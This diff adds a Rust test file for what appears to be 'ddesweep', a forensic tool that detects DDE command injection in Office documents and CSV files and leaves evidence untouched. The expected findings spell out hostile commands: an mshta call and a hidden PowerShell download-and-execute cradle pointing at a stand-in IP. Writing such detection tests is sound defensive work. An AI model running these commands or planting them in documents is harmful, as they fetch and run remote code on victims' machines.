@@ -1,0 +1,220 @@
+//! Evidence handling: the sample triage folder, links, special and unreadable files, and the
+//! rule that evidence is never written to.
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use sha2::{Digest, Sha256};
+
+use crate::util::{ddesweep, read_scan, run_scan, scan, testdata};
+
+#[test]
+fn sample_evidence_gives_the_documented_findings() {
+    let run = scan(&[&testdata("sample-evidence")], &[]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let mut findings: Vec<(String, String, String, String)> = run
+        .rows
+        .iter()
+        .filter(|r| r["severity"] != "info")
+        .map(|r| {
+            (
+                r["source_path"].as_str().unwrap().to_owned(),
+                r["user"].as_str().unwrap_or_default().to_owned(),
+                r["rule_id"].as_str().unwrap().to_owned(),
+                r["command"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect();
+    findings.sort();
+    let expected = [
+        (
+            "C/Users/alice/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/7XK2LQ0B/Payment_Advice.xlsx",
+            "alice",
+            "ddesweep.document.dde_link",
+            "cmd /c mshta http://198.51.100.23/pa.hta",
+        ),
+        (
+            "C/Users/alice/Downloads/Invoice_2291.docx",
+            "alice",
+            "ddesweep.document.ddeauto_field",
+            r#""C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -W Hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1') # " "Invoice.docx""#,
+        ),
+        (
+            "C/Users/bob/Desktop/export.csv",
+            "bob",
+            "ddesweep.document.dde_formula",
+            r"MSEXCEL \..\..\..\Windows\System32\cmd.exe /c calc.exe",
+        ),
+    ];
+    let expected: Vec<(String, String, String, String)> = expected
+        .iter()
+        .map(|(a, b, c, d)| ((*a).into(), (*b).into(), (*c).into(), (*d).into()))
+        .collect();
+    assert_eq!(findings, expected);
+    let photo = run.artifact("photo.jpg");
+    assert_eq!(photo["status"], "skipped");
+    assert_eq!(photo["kind"], "unknown");
+    assert_eq!(photo["sha256"], serde_json::Value::Null);
+    assert_eq!(run.artifact("Quarterly_Report.docx")["findings"], 0);
+    assert_eq!(run.artifact("notes.txt")["status"], "analyzed");
+    assert_eq!(run.manifest["totals"]["seen"], 6);
+    assert_eq!(run.manifest["totals"]["failed"], 0);
+}
+
+/// (relative path -> (sha256, length, modification time)) of every file below `root`.
+fn fingerprint(root: &Path) -> BTreeMap<PathBuf, (Vec<u8>, u64, std::time::SystemTime)> {
+    walkdir::WalkDir::new(root)
+        .sort_by_file_name()
+        .into_iter()
+        .map(|e| e.unwrap())
+        .filter(|e| e.file_type().is_file())
+        .map(|e| {
+            let meta = e.metadata().unwrap();
+            let digest = Sha256::digest(std::fs::read(e.path()).unwrap()).to_vec();
+            (
+                e.path().strip_prefix(root).unwrap().to_path_buf(),
+                (digest, meta.len(), meta.modified().unwrap()),
+            )
+        })
+        .collect()
+}
+
+fn copy_tree(from: &Path, to: &Path) {
+    for entry in walkdir::WalkDir::new(from) {
+        let entry = entry.unwrap();
+        let target = to.join(entry.path().strip_prefix(from).unwrap());
+        if entry.file_type().is_dir() {
+            std::fs::create_dir_all(&target).unwrap();
+        } else {
+            std::fs::copy(entry.path(), &target).unwrap();
+        }
+    }
+}
+
+#[test]
+fn evidence_is_unchanged_by_a_scan() {
+    let evidence = tempfile::tempdir().unwrap();
+    copy_tree(&testdata("sample-evidence"), evidence.path());
+    copy_tree(
+        &testdata("documents/hostile"),
+        &evidence.path().join("hostile"),
+    );
+    let before = fingerprint(evidence.path());
+    let run = scan(&[evidence.path()], &[]);
+    assert_eq!(run.code, 1, "the hostile files fail: {}", run.stderr);
+    assert_eq!(fingerprint(evidence.path()), before, "evidence changed");
+}
+
+#[test]
+fn output_inside_evidence_is_refused_before_anything_is_written() {
+    let evidence = tempfile::tempdir().unwrap();
+    copy_tree(&testdata("documents/positive"), evidence.path());
+    let before = fingerprint(evidence.path());
+    let out = evidence.path().join("results");
+    let output = ddesweep()
+        .args(["scan", "--quiet", "-o"])
+        .arg(&out)
+        .arg(evidence.path())
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("is inside evidence"));
+    assert!(!out.exists());
+    assert_eq!(fingerprint(evidence.path()), before);
+}
+
+#[test]
+fn missing_evidence_is_a_usage_error() {
+    let out = tempfile::tempdir().unwrap();
+    let output = run_scan(&[Path::new("/nonexistent/evidence")], out.path(), &[]);
+    assert_eq!(output.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&output.stderr).contains("/nonexistent/evidence"));
+}
+
+#[cfg(unix)]
+#[test]
+fn links_special_and_unreadable_files_are_accounted_for() {
+    use std::os::unix::fs::{PermissionsExt, symlink};
+    let evidence = tempfile::tempdir().unwrap();
+    let root = evidence.path();
+    std::fs::create_dir(root.join("dir")).unwrap();
+    std::fs::copy(
+        testdata("documents/positive/csv-cmd.csv"),
+        root.join("dir/a.csv"),
+    )
+    .unwrap();
+    symlink("..", root.join("dir/loop")).unwrap();
+    symlink("/etc/passwd", root.join("outside.txt")).unwrap();
+    let fifo = std::process::Command::new("mkfifo")
+        .arg(root.join("pipe.csv"))
+        .status()
+        .unwrap();
+    assert!(fifo.success());
+    let secret = root.join("secret.csv");
+    std::fs::copy(testdata("documents/positive/csv-cmd.csv"), &secret).unwrap();
+    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o000)).unwrap();
+
+    let out = tempfile::tempdir().unwrap();
+    let output = if is_root() {
+        // Root reads any file: run as nobody so that the permission bits count.
+        for dir in [root, out.path()] {
+            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o777)).unwrap();
+        }
+        std::fs::set_permissions(root.join("dir"), std::fs::Permissions::from_mode(0o777)).unwrap();
+        std::fs::set_permissions(
+            root.join("dir/a.csv"),
+            std::fs::Permissions::from_mode(0o644),
+        )
+        .unwrap();
+        std::process::Command::new("setpriv")
+            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+            .arg(env!("CARGO_BIN_EXE_ddesweep"))
+            .args(["scan", "--quiet", "-o"])
+            .arg(out.path())
+            .arg(root)
+            .output()
+            .unwrap()
+    } else {
+        run_scan(&[root], out.path(), &[])
+    };
+    let run = read_scan(out, &output);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let status = |name: &str| {
+        let a = run.artifact(name);
+        (
+            a["status"].as_str().unwrap().to_owned(),
+            a["reason"].as_str().unwrap_or_default().to_owned(),
+        )
+    };
+    assert_eq!(
+        status("dir/loop"),
+        ("skipped".into(), "symbolic link: not followed".into())
+    );
+    assert_eq!(
+        status("outside.txt"),
+        ("skipped".into(), "symbolic link: not followed".into())
+    );
+    assert_eq!(
+        status("pipe.csv"),
+        (
+            "skipped".into(),
+            "not a regular file (FIFO, socket or device)".into()
+        )
+    );
+    let (secret_status, secret_reason) = status("secret.csv");
+    assert_eq!(secret_status, "failed");
+    assert!(
+        secret_reason.contains("Permission denied"),
+        "{secret_reason}"
+    );
+    assert_eq!(run.commands_in("dir/a.csv"), ["cmd /c calc.exe"]);
+    assert_eq!(run.manifest["totals"]["seen"], 5);
+}
+
+#[cfg(unix)]
+fn is_root() -> bool {
+    std::process::Command::new("id")
+        .arg("-u")
+        .output()
+        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
+}
